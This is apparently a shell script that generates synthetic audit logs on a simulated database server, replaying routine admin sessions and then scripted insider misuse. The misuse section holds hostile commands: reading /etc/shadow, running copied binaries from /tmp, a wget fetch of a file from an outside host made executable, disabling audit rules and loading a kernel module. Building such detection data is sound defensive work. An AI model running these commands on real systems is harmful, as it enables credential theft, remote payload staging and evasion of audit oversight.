# SPDX-License-Identifier: Apache-2.0
# play-db.sh - the database server: auditd watches four people; three work, one misuses what he has.
# Sourced by ./record. The audit rules name only ids 20001 to 20999, so nothing else of this machine is recorded.
audit_on() {
	local conf=$W/host-db01/audit-conf host
	host=$(pgrep -f "host.sh db01.yte.tinhmau.example.vn" | tail -1)
	mkdir -p "$conf/plugins.d" && chmod 750 "$conf"
	cat > "$conf/auditd.conf" <<CONF
log_file = /mnt/audit.log
log_format = ENRICHED
log_group = root
flush = INCREMENTAL_ASYNC
freq = 50
name_format = USER
name = db01.yte.tinhmau.example.vn
plugin_dir = /mnt/audit-conf/plugins.d
max_log_file = 50
max_log_file_action = IGNORE
space_left = 1
space_left_action = IGNORE
admin_space_left_action = IGNORE
admin_space_left = 0
disk_full_action = IGNORE
disk_error_action = IGNORE
CONF
	chmod 640 "$conf/auditd.conf"
	auditctl -D > /dev/null
	auditctl -b 8192 > /dev/null
	local type
	for type in SECCOMP ANOM_ABEND BPF NETFILTER_CFG ANOM_PROMISCUOUS; do auditctl -a never,exclude -F msgtype=$type; done
	# Messages of people who never logged in (auid unset) would be those of the recording machine itself.
	auditctl -a never,exclude -F auid=4294967295
	nsenter -t "$host" --mount auditd -n -c /mnt/audit-conf & # inside, where it can name the users
	auditd_pid=$!
	sleep 1
	auditctl -e 1 > /dev/null
	local who="-F 'auid>=20001' -F 'auid<=20999'"
	nsenter -t "$host" --mount bash -c "
		auditctl -a always,exit -F arch=b64 -S execve $who -k exec
		auditctl -a always,exit -F path=/etc/shadow -F perm=r $who -k etc_shadow
		auditctl -a always,exit -F path=/etc/passwd -F perm=wa $who -k identity
		auditctl -a always,exit -F path=/etc/sudoers -F perm=wa $who -k privilege
		auditctl -a always,exit -F dir=/etc/audit -F perm=wa $who -k audit_config
		auditctl -a always,exit -F arch=b64 -S init_module,finit_module,delete_module $who -k modules" > /dev/null
}

audit_off() {
	auditctl -D > /dev/null; auditctl -e 0 > /dev/null
	kill "$auditd_pid"; wait "$auditd_pid" || true
	auditd_pid=
}

play_db() {
	host_start db01 db01.yte.tinhmau.example.vn db 192.0.2.11
	audit_on
	local n
	for n in $(seq 5); do # ordinary days: looking, backing up, reading logs
		ssh_as inside 192.0.2.20 vanhanh Mau-2026 192.0.2.11 'ls -l /srv; df -h; uptime; id; cat /etc/hostname; date; du -s /home; sort /etc/passwd | head -3'
		ssh_as inside 192.0.2.20 saoluu Mau-2026 192.0.2.11 'sudo tar cf /tmp/sao-luu.tar /etc/hostname; sha256sum /tmp/sao-luu.tar; rm -f /tmp/sao-luu.tar'
	done
	on_tty 192.0.2.20 quantri Mau-2026 192.0.2.11 'echo Mau-2026 | sudo -S useradd -m hotro; echo Mau-2026 | sudo -S usermod -aG sudo hotro'
	# the misuse: a wrong sudo, a root shell, a program in /tmp, the shadow file, the audit settings, a kernel module
	on_tty 192.0.2.20 ketoan Mau-2026 192.0.2.11 'echo Mau-2026 | sudo -S cat /etc/shadow'
	on_tty 192.0.2.20 ketoan Mau-2026 192.0.2.11 'sleep 0.3; (sleep 0.5; echo sai-mat-khau) | su - root -c id'
	ssh_as inside 192.0.2.20 ketoan Mau-2026 192.0.2.11 'cp /bin/ls /tmp/.x; /tmp/.x -la /home; /tmp/.x /root; cp /usr/bin/id /dev/shm/.k; /dev/shm/.k; rm -f /tmp/.x'
	ssh_as outside 203.0.113.45 root Mau-goc-2026 192.0.2.11 'cat /etc/shadow; wget -q http://203.0.113.45/x -O /tmp/x; chmod +x /tmp/x'
	on_tty 192.0.2.20 quantri Mau-2026 192.0.2.11 'echo Mau-2026 | sudo -S bash -c "cat /etc/shadow > /tmp/s; echo -D > /etc/audit/rules.d/00-tat.rules; echo x > /tmp/rk.ko; insmod /tmp/rk.ko; modprobe khong-co; rm -f /tmp/s /tmp/rk.ko; auditctl -D"'
	sleep 1
	audit_off
	host_stop db01
}
